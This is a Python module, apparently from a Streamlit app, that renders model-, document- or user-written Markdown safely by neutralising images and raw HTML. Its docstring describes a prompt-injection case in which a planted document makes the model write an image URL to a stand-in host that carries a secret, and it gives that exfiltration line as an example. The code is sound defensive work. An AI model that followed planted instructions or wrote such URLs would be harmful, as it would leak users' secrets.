"""Showing text that the model, a document or an end user wrote: Markdown without remote
images and without raw HTML.

An image in an answer is fetched by the browser the moment the answer is drawn, so a planted
document that makes the model write ``![x](http://host/exfil.png?q=<secret>)`` leaks the
secret without anyone clicking. Every page shows such text through ``safe_markdown`` (or
``show_markdown``), and widget labels through ``label_text``; nothing here imports streamlit
until something is drawn.

``safe_markdown`` keeps ordinary Markdown (emphasis, lists, tables, links, code) and changes
two things outside code: ``![`` becomes ``\\![`` (an image becomes a plain link, fetched only
if clicked) and ``<`` becomes ``&lt;`` (HTML is shown as text). The result is then parsed
again with a CommonMark parser; if an image or HTML is still found (input built to confuse
the rewrite), the whole text is shown as plain text instead.
"""

from __future__ import annotations

import re
from functools import lru_cache
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from markdown_it import MarkdownIt

# A "![" or "<" not escaped already: preceded by an even number of backslashes (maybe none).
_IMAGE = re.compile(r"(?<!\\)((?:\\\\)*)!\[")
_ANGLE = re.compile(r"(?<!\\)((?:\\\\)*)<")
_BACKTICKS = re.compile(r"`+")
_LABEL_SIGNS = re.compile(r"([\\`*_\[\]<>!~:$|&])")
_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:&])")


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    from markdown_it import MarkdownIt

    # CommonMark with the GFM extensions Streamlit's renderer knows that nest inline content.
    return MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _unsafe(markdown: str) -> bool:
    for token in _parser().parse(markdown):
        for part in [token, *(token.children or [])]:
            if part.type in ("image", "html_inline", "html_block"):
                return True
    return False


def _rewrite_inline(text: str) -> str:
    """Neutralise images and HTML outside the inline code spans of ``text``."""
    out: list[str] = []
    position = 0
    while position < len(text):
        opening = _BACKTICKS.search(text, position)
        if opening is None:
            break
        # A code span closes at the next run of exactly as many backticks.
        closing = next(
            (m for m in _BACKTICKS.finditer(text, opening.end()) if len(m.group()) == len(opening.group())),
            None,
        )
        if closing is None:  # no code span here: the backticks are literal
            out.append(_neutralise(text[position : opening.end()]))
            position = opening.end()
            continue
        out.append(_neutralise(text[position : opening.start()]))
        out.append(text[opening.start() : closing.end()])
        position = closing.end()
    out.append(_neutralise(text[position:]))
    return "".join(out)


def _neutralise(text: str) -> str:
    return _ANGLE.sub(r"\1&lt;", _IMAGE.sub(r"\1\\![", text))


def _rewrite(text: str) -> str:
    """Rewrite every line outside fenced and indented code blocks."""
    lines = text.splitlines(keepends=True)
    code: set[int] = set()
    for token in _parser().parse(text):
        if token.type in ("fence", "code_block") and token.map:
            code.update(range(*token.map))
    out: list[str] = []
    pending: list[str] = []  # a run of prose lines: a code span may cross a line break
    for number, line in enumerate(lines):
        if number in code:
            out.append(_rewrite_inline("".join(pending)))
            pending = []
            out.append(line)
        else:
            pending.append(line)
    out.append(_rewrite_inline("".join(pending)))
    return "".join(out)


def plain_markdown(text: str) -> str:
    """``text`` as Markdown that reads back as exactly that text: every sign escaped."""
    return _PUNCTUATION.sub(r"\\\1", text)


def safe_markdown(text: str) -> str:
    """``text`` as Markdown that draws no image and no HTML (see the module's docstring)."""
    shown = _rewrite(text)
    if not _unsafe(shown):
        return shown
    # Plain text, line by line (hard breaks; no indentation that would make a code block).
    return "  \n".join(plain_markdown(line.strip()) for line in text.splitlines())


def label_text(text: str) -> str:
    """Text for a widget or expander label, on one line. Labels render a little Markdown
    (emphasis, code, links, images, ``:material/...:`` icons): its signs are escaped."""
    return _LABEL_SIGNS.sub(r"\\\1", " ".join(text.split()))


def show_markdown(text: str, where: Any = None) -> Any:
    """Draw ``text`` with ``st.markdown`` (or ``where.markdown``) through ``safe_markdown``."""
    if where is None:
        import streamlit as st

        where = st
    return where.markdown(safe_markdown(text))
